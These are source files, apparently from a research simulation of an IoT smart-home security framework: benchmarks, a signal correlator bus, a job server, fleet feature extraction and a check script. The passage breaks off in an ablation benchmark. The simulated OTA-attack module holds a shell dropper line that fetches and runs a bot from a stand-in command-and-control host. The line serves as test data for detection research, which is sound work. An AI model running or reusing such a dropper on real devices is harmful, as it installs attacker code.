        return sim.events_processed

    processed = benchmark(schedule_and_run)
    assert processed == 2000


def test_process_switch_throughput(benchmark):
    def ping_pong():
        sim = Simulator()
        count = [0]

        def worker():
            for _ in range(500):
                yield sim.timeout(0.001)
                count[0] += 1

        sim.process(worker())
        sim.process(worker())
        sim.run()
        return count[0]

    assert benchmark(ping_pong) == 1000


def test_gateway_nat_path(benchmark):
    def build():
        sim = Simulator()
        lan = Link(sim, "wifi")
        wan = Link(sim, "wan")
        gw = Gateway(sim)
        gw.connect_lan(lan)
        gw.connect_wan(wan)
        inside = Node(sim, "in")
        inside.add_interface(lan, gw.assign_address())
        outside = Node(sim, "out")
        outside.add_interface(wan, "198.51.100.9")
        return sim, inside

    def nat_500_packets():
        sim, inside = build()
        for i in range(500):
            inside.send(Packet(src="", dst="198.51.100.9",
                               sport=1000 + i, dport=80))
        sim.run()
        return inside.packets_sent

    assert benchmark(nat_500_packets) == 500


def test_aes_block_rate(benchmark):
    cipher = get_cipher("AES")
    block = bytes(16)
    benchmark(cipher.encrypt_block, block)


def test_present_block_rate(benchmark):
    cipher = get_cipher("PRESENT")
    block = bytes(8)
    benchmark(cipher.encrypt_block, block)


def test_levenshtein_rate(benchmark):
    a = tuple(range(40))
    b = tuple(range(2, 42))
    assert benchmark(levenshtein, a, b) == 4


def test_correlator_signal_rate(benchmark):
    def process_signals():
        bus = CoreBus(Simulator())
        correlator = CrossLayerCorrelator(bus)
        for i in range(300):
            bus.report(SecuritySignal.make(
                Layer.DEVICE, SignalType.AUTH_FAILURE, "t",
                f"dev-{i % 10}", float(i), severity=Severity.INFO))
            bus.report(SecuritySignal.make(
                Layer.NETWORK, SignalType.SCAN_PATTERN, "t",
                f"dev-{i % 10}", float(i), severity=Severity.CRITICAL))
        return len(correlator.alerts)

    alerts = benchmark(process_signals)
    assert alerts > 0
