"""The Core's signal bus: where every layer's observations aggregate."""

from __future__ import annotations

from bisect import bisect_left, bisect_right
from collections import defaultdict
from typing import Callable, Dict, FrozenSet, List, Optional

from repro.core.signals import Layer, SecuritySignal, SignalType
from repro.sim import Simulator
from repro import telemetry as _telemetry


class CoreBus:
    """Collects signals from all layers and fans them out to analyses.

    Signals arrive in simulation-time order (the kernel fires events
    monotonically), so per-device and global signal lists stay sorted by
    construction and window queries binary-search a parallel timestamp
    list instead of scanning — the correlator calls
    :meth:`signals_in_window` on every report, which made the linear
    scan the hot path at fleet scale.  Out-of-order reports (possible
    from test harnesses driving the bus directly) are detected and
    degrade those queries to the original linear scan.
    """

    def __init__(self, sim: Simulator):
        self.sim = sim
        self.signals: List[SecuritySignal] = []
        self._listeners: List[Callable[[SecuritySignal], None]] = []
        self._by_device: Dict[str, List[SecuritySignal]] = defaultdict(list)
        # Parallel timestamp lists for bisect-based window queries.
        self._ts_by_device: Dict[str, List[float]] = defaultdict(list)
        self._global: List[SecuritySignal] = []      # device == ""
        self._global_ts: List[float] = []
        self._monotonic = True
        # Ref-counted stale markers: a layer whose signal sources are
        # known-degraded (fault injection, dead sensors) is *stale*, not
        # silently "no alerts" — the correlator weights the rest.
        self._stale_layers: Dict[Layer, int] = {}

    # -- layer liveness --------------------------------------------------------
    def mark_layer_stale(self, layer: Layer) -> None:
        """Record that ``layer``'s signal sources are degraded.

        Ref-counted: each concurrent degradation calls this once and
        pairs it with :meth:`mark_layer_fresh` on recovery.
        """
        self._stale_layers[layer] = self._stale_layers.get(layer, 0) + 1
        if _telemetry.ENABLED:
            _telemetry.registry().gauge(
                "core.layer_stale", layer=layer.value).set(1.0)

    def mark_layer_fresh(self, layer: Layer) -> None:
        """Undo one :meth:`mark_layer_stale`; unmatched calls are ignored."""
        count = self._stale_layers.get(layer, 0) - 1
        if count > 0:
            self._stale_layers[layer] = count
        else:
            self._stale_layers.pop(layer, None)
            if _telemetry.ENABLED:
                _telemetry.registry().gauge(
                    "core.layer_stale", layer=layer.value).set(0.0)

    def stale_layers(self) -> FrozenSet[Layer]:
        """Layers currently marked stale (empty in a healthy world)."""
        return frozenset(self._stale_layers)

    def report(self, signal: SecuritySignal) -> None:
        self.signals.append(signal)
        if signal.device:
            timestamps = self._ts_by_device[signal.device]
            if timestamps and signal.timestamp < timestamps[-1]:
                self._monotonic = False
            self._by_device[signal.device].append(signal)
            timestamps.append(signal.timestamp)
        else:
            if self._global_ts and signal.timestamp < self._global_ts[-1]:
                self._monotonic = False
            self._global.append(signal)
            self._global_ts.append(signal.timestamp)
        if _telemetry.ENABLED:
            _telemetry.registry().counter(
                "core.signals", layer=signal.layer.value,
                type=signal.signal_type.value).inc()
        for listener in self._listeners:
            listener(signal)

    def subscribe(self, listener: Callable[[SecuritySignal], None]) -> None:
        self._listeners.append(listener)

    def unsubscribe(self, listener: Callable[[SecuritySignal], None]) -> None:
        """Remove a listener; unknown listeners are ignored."""
        try:
            self._listeners.remove(listener)
        except ValueError:
            pass

    # -- queries --------------------------------------------------------------
    def signals_for(self, device: str) -> List[SecuritySignal]:
        return list(self._by_device.get(device, []))

    def reporting_devices(self) -> List[str]:
        """Devices with at least one reported signal, in first-report
        order (deterministic: insertion order of the device pools)."""
        return list(self._by_device)

    def global_signals_in_window(self, end: float,
                                 window_s: float) -> List[SecuritySignal]:
        """The global pool (``device == ""``) within the window — the
        public accessor for signals tied to no device (user-scoped API
        abuse, platform-wide ingest anomalies)."""
        start = end - window_s
        if self._monotonic:
            return self._window_slice(self._global, self._global_ts,
                                      start, end)
        return [s for s in self._global if start <= s.timestamp <= end]

    def _window_slice(self, pool: List[SecuritySignal],
                      timestamps: List[float], start: float,
                      end: float) -> List[SecuritySignal]:
        """Sorted-pool window extraction, boundaries inclusive."""
        lo = bisect_left(timestamps, start)
        hi = bisect_right(timestamps, end)
        return pool[lo:hi]

    def signals_in_window(self, device: str, end: float,
                          window_s: float,
                          include_global: bool = True) -> List[SecuritySignal]:
        """Signals for ``device`` within the window.

        Global signals (``device == ""``, e.g. API abuse tied to a user
        rather than a device) corroborate any device when
        ``include_global`` is set — a credential attack shows up as
        device-side auth failures *and* user-side API probing.
        """
        start = end - window_s
        if self._monotonic:
            result = self._window_slice(
                self._by_device.get(device, []),
                self._ts_by_device.get(device, []), start, end)
            if include_global and device and self._global:
                result.extend(self._window_slice(
                    self._global, self._global_ts, start, end))
                result.sort(key=lambda s: s.timestamp)
            return result
        # Out-of-order fallback: the original linear scan.
        result = [s for s in self._by_device.get(device, [])
                  if start <= s.timestamp <= end]
        if include_global and device:
            result.extend(
                s for s in self._global
                if start <= s.timestamp <= end
            )
            result.sort(key=lambda s: s.timestamp)
        return result

    def count_by_type(self, signal_type: SignalType,
                      device: Optional[str] = None) -> int:
        pool = self._by_device.get(device, []) if device else self.signals
        return sum(1 for s in pool if s.signal_type == signal_type)

    def layers_reporting(self, device: str) -> List[Layer]:
        return sorted({s.layer for s in self._by_device.get(device, [])},
                      key=lambda layer: layer.value)

    def clear(self) -> None:
        self.signals.clear()
        self._by_device.clear()
        self._ts_by_device.clear()
        self._global.clear()
        self._global_ts.clear()
        self._monotonic = True
