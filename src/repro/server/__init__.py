"""``repro.server`` — the resident fleet service.

Turns the one-shot ``run_spec`` batch engine into a long-lived,
multi-tenant service: submit :class:`~repro.scenarios.spec.ScenarioSpec`
JSON over REST, watch per-home progress and alerts stream over SSE,
scrape live Prometheus metrics, and fetch results that are
byte-identical (in their ``observations`` section) to a direct CLI run
of the same spec.

Run it::

    python -m repro serve --port 8787 --workers 2

or embed it::

    from repro.server import serve
    asyncio.run(serve(port=8787, workers=2))

or, for tests and benchmarks, in-process::

    from repro.server.background import BackgroundServer
    with BackgroundServer() as server:
        job = server.client().submit(spec_dict)

Layering (nothing imports upward):

* :mod:`repro.server.jobs` — job model, event log, priority queue
* :mod:`repro.server.store` — result serialization + bounded store
* :mod:`repro.server.service` — queue workers, live telemetry, drain
* :mod:`repro.server.http` — hand-rolled asyncio HTTP/1.1 + SSE front end
* :mod:`repro.server.client` — stdlib blocking client
* :mod:`repro.server.background` — in-process server-on-a-thread helper
"""

from __future__ import annotations

import asyncio
import contextlib
import signal
import sys
from typing import Callable, Optional

from repro.server.jobs import Job, JobQueue, JobState
from repro.server.service import FleetService, ServiceDraining, UnknownJob
from repro.server.store import ResultStore, canonical_json, result_to_dict
from repro.server.http import HttpServer


async def serve(host: str = "127.0.0.1", port: int = 8787,
                workers: int = 2,
                store_capacity: int = 64,
                spill_path: Optional[str] = None,
                sse_keepalive_s: float = 10.0,
                ready: Optional[asyncio.Event] = None,
                shutdown: Optional[asyncio.Event] = None,
                on_bound: Optional[Callable[[HttpServer], None]] = None,
                quiet: bool = False) -> int:
    """Run the service until SIGTERM/SIGINT (or ``shutdown`` is set),
    then drain gracefully: stop accepting jobs, finish accepted ones,
    close the sockets.  Returns 0 on a clean drain."""
    store = ResultStore(capacity=store_capacity, spill_path=spill_path)
    service = FleetService(workers=workers, store=store)
    await service.start()
    http = HttpServer(service, host=host, port=port,
                      sse_keepalive_s=sse_keepalive_s)
    await http.start()
    if on_bound is not None:
        on_bound(http)

    stop = shutdown if shutdown is not None else asyncio.Event()
    loop = asyncio.get_running_loop()
    registered = []
    for signame in ("SIGTERM", "SIGINT"):
        sig = getattr(signal, signame, None)
        if sig is None:
            continue
        # Non-main threads (BackgroundServer) and some platforms cannot
        # install loop signal handlers; the shutdown event still works.
        with contextlib.suppress(NotImplementedError, ValueError,
                                 RuntimeError):
            loop.add_signal_handler(sig, stop.set)
            registered.append(sig)

    if not quiet:
        print(f"repro.server listening on http://{http.host}:{http.port} "
              f"({workers} job worker(s); POST /jobs, GET /metrics, "
              f"SSE /jobs/<id>/events)", file=sys.stderr, flush=True)
    if ready is not None:
        ready.set()

    await stop.wait()
    if not quiet:
        print("repro.server draining: finishing accepted jobs ...",
              file=sys.stderr, flush=True)
    await service.drain()
    await http.close()
    for sig in registered:
        with contextlib.suppress(NotImplementedError, ValueError,
                                 RuntimeError):
            loop.remove_signal_handler(sig)
    if not quiet:
        finished = sum(1 for job in service.jobs.values() if job.terminal)
        print(f"repro.server stopped cleanly "
              f"({finished}/{len(service.jobs)} job(s) finished)",
              file=sys.stderr, flush=True)
    return 0


__all__ = [
    "FleetService",
    "HttpServer",
    "Job",
    "JobQueue",
    "JobState",
    "ResultStore",
    "ServiceDraining",
    "UnknownJob",
    "canonical_json",
    "result_to_dict",
    "serve",
]
