"""Malicious OTA update from a compromised cloud (paper §III-C).

"If the update is sent unencrypted or unsigned, or the implementations
of the verification are not robust, then the device could be easily
compromised."  The attacker tampers an OTA campaign at the (trusted!)
cloud; devices that skip signature verification install it.  The evil
payload carries the dropper keywords DPI knows, so a gateway running
XLF's update inspection blocks it in flight.
"""

from __future__ import annotations

from typing import List

from repro.attacks.base import Attack, AttackOutcome
from repro.scenarios.spec import register_attack
from repro.device.firmware import FirmwareImage


EVIL_PAYLOAD = (
    b"#!/bin/sh\nwget http://c2.evil.example/bot -O /tmp/bot\n"
    b"chmod +x /tmp/bot\n/tmp/bot &\n"
)


@register_attack
class MaliciousOtaUpdate(Attack):
    name = "malicious-ota-update"
    surface_layers = ("service", "device")
    table_ii_row = (
        "Unsigned / unverified firmware updates",
        "Tampered OTA campaign from a compromised cloud",
        "Attacker firmware runs on the device",
    )

    def __init__(self, home, target_type: str = "thermostat"):
        super().__init__(home)
        self.target_type = target_type
        self.targets = home.devices_of_type(target_type)
        self.campaign_id = f"evil-{target_type}"
        self.pushed: List[str] = []

    def _launch(self) -> None:
        cloud = self.home.cloud
        cloud.compromised = True
        # Publish a legitimate-looking campaign, then swap the image.
        vendor = self.targets[0].firmware.current.vendor if self.targets else "nest"
        signer = self.home.firmware_signers.get(vendor)
        legit = FirmwareImage(vendor, self.target_type, "9.0.0",
                              b"legit-looking")
        if signer is not None:
            legit = signer.sign(legit)
        cloud.ota.publish(legit)
        cloud.ota.create_campaign(self.campaign_id, self.target_type, "9.0.0")
        evil = FirmwareImage("mallory", self.target_type, "9.0.1",
                             EVIL_PAYLOAD, malicious=True)
        cloud.ota.tamper_campaign(self.campaign_id, evil)
        for device in self.targets:
            device_id = self.home.device_ids[device.name]
            if cloud.push_update(self.campaign_id, device_id):
                self.pushed.append(device.name)

    def outcome(self) -> AttackOutcome:
        compromised = {
            d.name for d in self.targets if d.firmware.compromised
        }
        return AttackOutcome(
            succeeded=bool(compromised),
            compromised_devices=compromised,
            details={"pushed_to": self.pushed},
        )
