"""A fleet of homes for community-based learning (paper §IV-D).

"Users running the same IoT devices and similar automation applications
could be considered as a group or community, which should present
similar behaviors."  This module builds N seeded homes (optionally
infecting some), runs them, and extracts per-device behavioural feature
vectors from *observable traffic*, ready for
:class:`repro.core.graphlearn.CommunityModel`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Sequence, Set

from repro.attacks.mirai import MiraiBotnet
from repro.network.capture import PacketCapture
from repro.scenarios.smarthome import SmartHome, SmartHomeConfig
from repro.scenarios.workloads import ResidentActivity


@dataclass
class FleetResult:
    """Observed fleet behaviour."""

    features: Dict[str, List[float]]       # "home03/camera-1" -> vector
    device_types: Dict[str, str]
    infected: Set[str] = field(default_factory=set)

    FEATURE_NAMES = (
        "packets_per_min",
        "mean_packet_size",
        "distinct_remotes",
        "events_per_min",
        "telemetry_per_min",
    )


def run_fleet(n_homes: int = 5,
              infected_homes: Sequence[int] = (),
              duration_s: float = 300.0,
              base_seed: int = 100) -> FleetResult:
    """Build, run, and featurise a fleet of identical homes."""
    result = FleetResult(features={}, device_types={})
    for index in range(n_homes):
        home = SmartHome(SmartHomeConfig(seed=base_seed + index))
        captures: Dict[str, PacketCapture] = {}
        capture = PacketCapture(home.sim, keep_packets=True,
                                name=f"home{index}")
        for link in home.all_lan_links:
            link.add_observer(capture.observe)
        home.run(5.0)
        activity = ResidentActivity(home, rng_name=f"resident-{index}")
        activity.start(mean_action_interval_s=60.0)
        attack = None
        if index in infected_homes:
            attack = MiraiBotnet(home, run_ddos=False)
            attack.launch()
        home.run(home.sim.now + duration_s)
        minutes = duration_s / 60.0
        per_device_sizes: Dict[str, List[int]] = {}
        per_device_remotes: Dict[str, Set[str]] = {}
        for packet in capture.packets:
            device = packet.src_device
            if not device:
                continue
            per_device_sizes.setdefault(device, []).append(packet.size_bytes)
            per_device_remotes.setdefault(device, set()).add(packet.dst)
        for device in home.devices:
            name = f"home{index:02d}/{device.name}"
            sizes = per_device_sizes.get(device.name, [])
            result.features[name] = [
                len(sizes) / minutes,
                (sum(sizes) / len(sizes)) if sizes else 0.0,
                float(len(per_device_remotes.get(device.name, set()))),
                device.events_emitted / minutes,
                device.telemetry_sent / minutes,
            ]
            result.device_types[name] = device.spec.type_name
            if device.infected:
                result.infected.add(name)
    return result
