#!/usr/bin/env bash
# Repo health check: tier-1 tests, a scenario fuzz smoke (25 seeds of
# random-valid specs property-checked), a telemetry-enabled fleet smoke
# run, a fault-injection scenario smoke, a resident-server smoke
# (submit over HTTP, verify byte-identity vs direct run_spec, clean
# SIGTERM), and validation of the benchmark artifacts (telemetry
# overhead, fault resilience, streaming detection, server throughput).
#
# Usage:  scripts/check.sh [--fresh-bench]
#   --fresh-bench   re-run the benchmarks even if BENCH_telemetry.json /
#                   BENCH_faults.json already exist
set -euo pipefail
cd "$(dirname "$0")/.."
export PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"

echo "== tier-1 pytest =="
python -m pytest -x -q

echo
echo "== plugin registry smoke check =="
python - <<'PY'
from repro.core import REGISTRY, Layer, load_builtin_functions

load_builtin_functions()
expected = {
    "encryption-policy": Layer.DEVICE,
    "delegation-proxy": Layer.DEVICE,
    "update-inspector": Layer.DEVICE,
    "constrained-access": Layer.DEVICE,
    "traffic-monitor": Layer.NETWORK,
    "activity-detector": Layer.NETWORK,
    "traffic-shaper": Layer.NETWORK,
    "api-guard": Layer.SERVICE,
    "security-analytics": Layer.SERVICE,
    "app-verifier": Layer.SERVICE,
    "response-engine": Layer.CORE,
}
for name, layer in expected.items():
    cls = REGISTRY.get(name)
    assert cls.layer is layer, f"{name}: {cls.layer} != {layer}"
ordered = [cls.name for cls in REGISTRY.ordered()]
assert len(ordered) == len(set(ordered)) >= len(expected), ordered
print(f"registry ok: {len(expected)} functions resolvable, "
      "layers correct, wiring order deterministic")
PY

echo
echo "== scenario spec engine smoke check =="
python -m repro --list-attacks
python - <<'PY'
from repro.scenarios import ATTACKS, load_builtin_attacks

load_builtin_attacks()
assert len(ATTACKS) >= 12, f"only {len(ATTACKS)} attacks registered"
print(f"attack registry ok: {len(ATTACKS)} attacks registered")
PY
python -m repro --spec examples/specs/botnet.json

echo
echo "== cross-home worm fleet smoke check =="
python - <<'PY'
import json

from repro.scenarios import ScenarioSpec, run_spec

with open("examples/specs/worm_fleet.json") as handle:
    spec = ScenarioSpec.from_dict(json.load(handle))
spec.duration_s = 150.0            # smoke-sized slice of the example
serial = run_spec(spec)
par = run_spec(spec, workers=2)
origin = spec.attacks[0].home
infected_homes = {h.home_index for h in serial.homes if h.infected}
beyond = infected_homes - {origin}
assert len(beyond) >= 2, (
    f"worm only reached {sorted(beyond)} beyond patient zero {origin}")
assert serial.features == par.features \
    and list(serial.features) == list(par.features), \
    "serial and sharded worm runs diverged"
assert serial.infected == par.infected
assert [a.timestamp for a in serial.alerts] == \
    [a.timestamp for a in par.alerts]
print(f"worm fleet ok: patient zero home {origin} spread to "
      f"{len(beyond)} other homes, serial == sharded")
PY
python -m repro --spec examples/specs/worm_fleet.json

echo
echo "== fault-injection scenario smoke check =="
python -m repro --list-faults
python - <<'PY'
import json

from repro import telemetry
from repro.scenarios import ScenarioSpec, run_spec

with open("examples/specs/faulty_home.json") as handle:
    spec = ScenarioSpec.from_dict(json.load(handle))
assert spec.faults, "faulty_home.json carries no faults"
telemetry.enable()
result = run_spec(spec)
injected = result.telemetry.counter_total("faults.injected")
recovered = result.telemetry.counter_total("faults.recovered")
assert injected > 0, "no faults injected"
assert recovered > 0, "no faults recovered"
assert result.fault_events, "no fault events recorded"
assert all(outcome is not None for outcome in result.outcomes), \
    "an attack never launched"
print(f"fault scenario ok: {injected:.0f} injected, "
      f"{recovered:.0f} recovered, {len(result.alerts)} alerts, "
      f"all attacks completed")
PY
python -m repro --spec examples/specs/faulty_home.json

echo
echo "== scenario fuzz smoke =="
python -m repro fuzz --seeds 25

echo
echo "== telemetry-enabled fleet smoke run =="
smoke_dir="$(mktemp -d)"
trap 'rm -rf "$smoke_dir"' EXIT
python -m repro telemetry --telemetry "$smoke_dir/smoke"
for suffix in prom jsonl trace.json; do
    if [ ! -s "$smoke_dir/smoke.$suffix" ]; then
        echo "ERROR: telemetry export smoke.$suffix missing or empty" >&2
        exit 1
    fi
done
echo "telemetry exports written and non-empty (prom, jsonl, trace.json)"

echo
echo "== journal replay & crash recovery smoke =="
SMOKE_DIR="$smoke_dir" python - <<'PY'
import json
import os

import repro.scenarios.exchange as exchange_module
from repro.runtime import read_journal
from repro.scenarios import ScenarioSpec, run_spec
from repro.server.store import canonical_json, result_to_dict

smoke_dir = os.environ["SMOKE_DIR"]
with open("examples/specs/worm_fleet.json") as handle:
    spec = ScenarioSpec.from_dict(json.load(handle))
spec.duration_s = 200.0            # long enough for the fleet alerts
spec.collect_features = False

clean_path = os.path.join(smoke_dir, "journal_clean.jsonl")
crash_path = os.path.join(smoke_dir, "journal_crash.jsonl")
clean = run_spec(spec, workers=2, journal=clean_path)


def kill_first_shard(epoch, indices):   # dies mid-run, once
    if epoch == 2 and 0 in indices:
        os._exit(1)


original_hook = exchange_module._shard_crash_hook
exchange_module._shard_crash_hook = kill_first_shard
try:
    crashed = run_spec(spec, workers=2, journal=crash_path)
finally:
    exchange_module._shard_crash_hook = original_hook

assert canonical_json(result_to_dict(clean)["observations"]) == \
    canonical_json(result_to_dict(crashed)["observations"]), \
    "journal-resumed run diverged from the unfailed run"
records = read_journal(crash_path)
kinds = {r["t"] for r in records}
assert {"run-start", "epoch", "actor-crash", "actor-restart",
        "run-end"} <= kinds, f"journal kinds incomplete: {sorted(kinds)}"


def alert_stream(path):
    return [(r["n"], r["home"], canonical_json(r["alert"]))
            for r in read_journal(path) if r["t"] == "alert"]


assert alert_stream(clean_path) == alert_stream(crash_path), \
    "clean and crash-resumed journals carry different alert streams"
alerts = sum(1 for r in records if r["t"] == "alert")
assert alerts > 0, "journal smoke produced no alerts to compare"
print(f"journal recovery ok: shard killed at epoch 2, resumed run "
      f"byte-identical, {alerts} alerts journaled in both runs")
PY
python -m repro replay "$smoke_dir/journal_clean.jsonl"

echo
echo "== telemetry overhead benchmark artifact =="
if [ "${1:-}" = "--fresh-bench" ] || [ ! -f BENCH_telemetry.json ]; then
    python benchmarks/bench_telemetry_overhead.py --quick \
        --out BENCH_telemetry.json
fi
python - <<'PY'
import json

with open("BENCH_telemetry.json") as handle:
    report = json.load(handle)
assert report["bench"] == "telemetry_overhead", report.get("bench")
fleet = report["fleet"]
assert fleet["overhead_pct"] < fleet["threshold_pct"], (
    f"enabled overhead {fleet['overhead_pct']}% exceeds "
    f"{fleet['threshold_pct']}% threshold")
assert report["merge"]["identical_totals"], \
    "serial and parallel merged telemetry totals differ"
print(f"BENCH_telemetry.json ok: enabled overhead "
      f"{fleet['overhead_pct']:.2f}% (< {fleet['threshold_pct']}%), "
      f"serial==parallel totals")
PY

echo
echo "== fault resilience benchmark artifact =="
if [ "${1:-}" = "--fresh-bench" ] || [ ! -f BENCH_faults.json ]; then
    python benchmarks/bench_fault_resilience.py --quick \
        --out BENCH_faults.json
fi
python - <<'PY'
import json

with open("BENCH_faults.json") as handle:
    report = json.load(handle)
assert report["bench"] == "fault_resilience", report.get("bench")
rows = report["intensities"]
assert len(rows) >= 3, f"only {len(rows)} fault intensities measured"
for row in rows:
    assert row["full_recall"] >= row["best_single_recall"], (
        f"intensity {row['intensity']}: full recall {row['full_recall']} "
        f"below best single layer {row['best_single_recall']}")
assert report["passed"]
print(f"BENCH_faults.json ok: {len(rows)} intensities, full-XLF recall "
      f">= best single layer at every one")
PY

echo
echo "== streaming detection benchmark artifact =="
if [ "${1:-}" = "--fresh-bench" ] || [ ! -f BENCH_streaming.json ]; then
    python benchmarks/bench_streaming_detection.py --quick \
        --out BENCH_streaming.json
fi
python - <<'PY'
import json

with open("BENCH_streaming.json") as handle:
    report = json.load(handle)
assert report["bench"] == "streaming_detection", report.get("bench")
for arm in ("batch", "streaming"):
    entry = report[arm]
    for field in ("recall", "latency", "detected", "false_positives"):
        assert field in entry, f"{arm} missing field: {field}"
    assert entry["latency"]["count"] > 0, f"{arm} arm detected nothing"
gates = report["gates"]
assert gates["streaming_median_below_batch"], (
    f"streaming median {report['streaming']['latency']['median_s']}s not "
    f"below batch median {report['batch']['latency']['median_s']}s")
assert gates["recall_not_worse"], (
    f"streaming recall {report['streaming']['recall']} below batch "
    f"{report['batch']['recall']}")
assert gates["no_streaming_false_positives"], (
    f"streaming false positives: {report['streaming']['false_positives']}")
print(f"BENCH_streaming.json ok: streaming median "
      f"{report['streaming']['latency']['median_s']}s vs batch "
      f"{report['batch']['latency']['median_s']}s "
      f"({report['speedup_median']}x), recall "
      f"{report['streaming']['recall']} >= {report['batch']['recall']}, "
      f"no false positives")
PY

echo
echo "== fleet performance smoke (prototype clone path) =="
python benchmarks/bench_perf_fleet.py --quick --out BENCH_fleet_smoke.json
python - <<'PY'
import json
import os

with open("BENCH_fleet_smoke.json") as handle:
    report = json.load(handle)
os.remove("BENCH_fleet_smoke.json")
assert report["bench"] == "perf_fleet", report.get("bench")
fleet = report["fleet"]
# The two identity guarantees the clone path lives or dies by.
assert fleet["identical_results"], \
    "serial and parallel fleet results differ"
assert fleet["clone_identical"], \
    "prototype-clone results differ from fresh builds"
# The new reporting fields must be present and sane.
for field in ("homes_per_sec", "cloned_homes", "clone_fallbacks",
              "fresh_build_s", "clone_speedup", "stages", "fresh_stages"):
    assert field in fleet, f"BENCH field missing: {field}"
for stage in ("build_s", "run_s", "featurize_s"):
    assert stage in fleet["stages"], f"stage timing missing: {stage}"
assert fleet["cloned_homes"] == fleet["homes"], (
    f"only {fleet['cloned_homes']}/{fleet['homes']} homes took the "
    "clone path")
assert fleet["clone_fallbacks"] == 0, (
    f"{fleet['clone_fallbacks']} clone fallbacks on the default "
    "topology — the snapshot path has regressed")
# Epoch-exchange gate: the entry must exist, the forced epoch engine
# must reproduce the fast path exactly, and stay within its budget.
assert "worm_epoch_overhead" in report, \
    "BENCH missing worm_epoch_overhead entry"
epoch = report["worm_epoch_overhead"]
assert epoch["identical"], \
    "epoch-engine results differ from the single-home fast path"
assert epoch["overhead_pct"] <= epoch["threshold_pct"], (
    f"epoch-barrier overhead {epoch['overhead_pct']}% exceeds "
    f"{epoch['threshold_pct']}% budget")
# Journal gate: attaching the run journal must stay a pure observer —
# identical observations, and within its wall-clock budget.
assert "journal_overhead" in report, \
    "BENCH missing journal_overhead entry"
journal = report["journal_overhead"]
assert journal["identical"], \
    "journaled observations differ from the plain run"
assert journal["overhead_pct"] <= journal["threshold_pct"], (
    f"journal overhead {journal['overhead_pct']}% exceeds "
    f"{journal['threshold_pct']}% budget")
print(f"fleet perf smoke ok: {fleet['homes_per_sec']} homes/s cloned "
      f"(fresh {fleet['fresh_homes_per_sec']} homes/s, clone speedup "
      f"{fleet['clone_speedup']}x), identity checks green, epoch "
      f"overhead {epoch['overhead_pct']}% (<= {epoch['threshold_pct']}%), "
      f"journal overhead {journal['overhead_pct']}% "
      f"(<= {journal['threshold_pct']}%)")
PY

echo
echo "== committed BENCH_fleet.json gate =="
python - <<'PY'
import json

with open("BENCH_fleet.json") as handle:
    report = json.load(handle)
assert "worm_epoch_overhead" in report, (
    "committed BENCH_fleet.json lacks the worm_epoch_overhead entry — "
    "regenerate with benchmarks/bench_perf_fleet.py")
assert report["worm_epoch_overhead"]["identical"], \
    "committed BENCH records epoch/fast-path divergence"
assert report["fleet"]["identical_results"], \
    "committed BENCH records a serial/parallel identity regression"
assert report["fleet"]["clone_identical"], \
    "committed BENCH records a clone/fresh identity regression"
assert "journal_overhead" in report, (
    "committed BENCH_fleet.json lacks the journal_overhead entry — "
    "regenerate with benchmarks/bench_perf_fleet.py")
assert report["journal_overhead"]["identical"], \
    "committed BENCH records a journal identity regression"
assert report["journal_overhead"]["overhead_pct"] <= \
    report["journal_overhead"]["threshold_pct"], \
    "committed BENCH records journal overhead beyond its budget"
print("committed BENCH_fleet.json ok: epoch-overhead and journal "
      "entries present, identity flags green")
PY

echo
echo "== resident fleet server smoke =="
python - <<'PY'
import json
import os
import signal
import socket
import subprocess
import sys
import time

from repro import telemetry
from repro.scenarios import ScenarioSpec, run_spec
from repro.server.client import ServerClient
from repro.server.store import canonical_json, result_to_dict

with socket.socket() as probe:       # grab a free port for the server
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]

proc = subprocess.Popen(
    [sys.executable, "-m", "repro", "serve", "--port", str(port),
     "--workers", "1"],
    env={**os.environ, "PYTHONPATH": "src"})
client = ServerClient(port=port)
try:
    deadline = time.monotonic() + 30
    while True:
        try:
            assert client.health()["status"] == "ok"
            break
        except OSError:
            if time.monotonic() > deadline:
                raise SystemExit("server never became healthy")
            time.sleep(0.1)

    with open("examples/specs/botnet.json") as handle:
        spec_data = json.load(handle)
    job = client.submit(spec_data)
    final = client.wait(job["id"], timeout=120)
    assert final["state"] == "done", final
    served = client.result(job["id"])

    telemetry.enable()
    try:
        direct = result_to_dict(run_spec(ScenarioSpec.from_dict(spec_data)))
    finally:
        telemetry.disable()
    assert canonical_json(served["observations"]) == \
        canonical_json(direct["observations"]), \
        "served result differs from direct run_spec"

    metrics = client.metrics()
    assert "server_jobs_submitted_total" in metrics
    assert "# TYPE" in metrics
finally:
    proc.send_signal(signal.SIGTERM)
    code = proc.wait(timeout=30)
assert code == 0, f"server exited {code} on SIGTERM"
print(f"server smoke ok: job {job['id']} done, observations identical "
      f"to direct run, /metrics valid, clean shutdown")
PY

echo
echo "== server throughput benchmark artifact =="
if [ "${1:-}" = "--fresh-bench" ] || [ ! -f BENCH_server.json ]; then
    python benchmarks/bench_server_throughput.py --quick \
        --out BENCH_server.json
fi
python - <<'PY'
import json

with open("BENCH_server.json") as handle:
    report = json.load(handle)
assert report["bench"] == "server_throughput", report.get("bench")
assert report["identical_observations"], \
    "served observations differ from direct run_spec"
assert report["served"]["states"] == ["done"], report["served"]["states"]
assert report["within_budget"], (
    f"server overhead {report['overhead_pct']}% exceeds "
    f"{report['threshold_pct']}% budget")
print(f"BENCH_server.json ok: {report['served']['jobs_per_sec']} jobs/s "
      f"served ({report['served']['homes_per_sec']} homes/s), overhead "
      f"{report['overhead_pct']}% (< {report['threshold_pct']}%)")
PY

echo
echo "check.sh: all green"
