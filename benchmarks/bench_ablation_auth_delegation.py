"""A2 — ablation: the delegated-authentication proxy (§IV-A.1).

The paper motivates delegation with two numbers we can produce: request
latency for users (the Barreto scheme "increases the latency for users
to access their devices") and cloud load (the scheme "does not scale").
We replay an access workload through three configurations:

* cloud-only (no proxy, every request to the cloud over the WAN);
* proxy without SSO cache;
* full XLF proxy (delegation + SSO token cache + LAN/WAN split).
"""

import pytest

from benchmarks.conftest import emit
from repro.metrics import format_table
from repro.security.device.auth import DelegationProxy
from repro.service.identity import IdentityManager, UserRole
from repro.service.oauth import OAuthServer
from repro.sim import Simulator

N_USERS = 20
N_DEVICES = 5
REQUESTS_PER_USER = 30
LAN_FRACTION = 0.8


def build_proxy(sim):
    identity = IdentityManager()
    for i in range(N_USERS):
        identity.register(f"user{i}", f"pw-{i}-long-enough",
                          role=UserRole.BASIC)
    oauth = OAuthServer(sim)
    return DelegationProxy(sim, identity, oauth)


def run_workload(mode):
